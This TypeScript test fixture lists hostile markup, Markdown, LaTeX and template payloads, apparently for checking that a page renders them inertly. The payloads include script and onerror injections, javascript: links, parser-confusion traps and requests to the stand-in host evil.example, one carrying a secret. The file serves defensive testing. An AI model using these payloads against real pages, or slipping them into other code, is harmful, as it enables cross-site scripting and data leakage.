// Hostile payloads: markup, links, styles, templates and parser traps that would take effect if the page did not treat
// them as text. Their hosts do not exist.

const RUNS = 'globalThis.pwned=1'
export const PAYLOADS: readonly string[] = [
  `<script>${RUNS}</script>`,
  `"><script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror="${RUNS}">`,
  `<img src="https://evil.example/p.png?secret">`,
  `<svg onload="${RUNS}"><use href="https://evil.example/#x"/></svg>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/"><a href="/v1">x</a>`,
  `<form action="https://evil.example/"><button autofocus>Send</button></form>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUNS}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUNS}>">`,
  `<style>@import url(https://evil.example/a.css);*{background:url(https://evil.example/b)}</style>`,
  `[go](javascript:${RUNS}) [go](JaVaScRiPt:${RUNS}) [go](<java\tscript:${RUNS}>)`,
  `[go](&#x6A;avascript:${RUNS}) [go](\u0001javascript:${RUNS}) [go](vbscript:x)`,
  `[page](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)`,
  `![p](https://evil.example/p.png) ![q](data:image/svg+xml;base64,PHN2Zy8+ "t")`,
  `[a]: javascript:${RUNS}\n\n[a] and <javascript:${RUNS}>`,
  `[x](https://evil.example/" onmouseover="${RUNS} "title" onclick="${RUNS}")`,
  '```html\n<script>globalThis.pwned=1</script>\n```\n~~~"><img src=x onerror=1>\nx\n~~~',
  `| a | b |\n|---|:-:|\n| <img src=x onerror=${RUNS}> | [x](javascript:${RUNS}) |`,
  `\\(\\href{javascript:${RUNS}}{x}\\) $$\\includegraphics{https://evil.example/p}$$ \\(\\style{background:url(//evil.example/s)}{x}\\) \\(x^2\\)`,
  `{{constructor.constructor('${RUNS}')()}} \${${RUNS}} <%= 1 %>`,
  `\u202Egnp.exe\u2066 \u200B\u200D\uFEFF \uD800 \0 \u2028 </textarea></title>`,
  `'"\`><img/src/onerror=${RUNS}>--!><x onpointerenter=${RUNS}>`,
  `javascript:${RUNS}`,
  `blob:https://evil.example/1 //evil.example/x file:///etc/passwd`,
  `${'<b>'.repeat(300)}${'> '.repeat(300)}${'*_`['.repeat(150)}<img src=x onerror=${RUNS}>`,
]
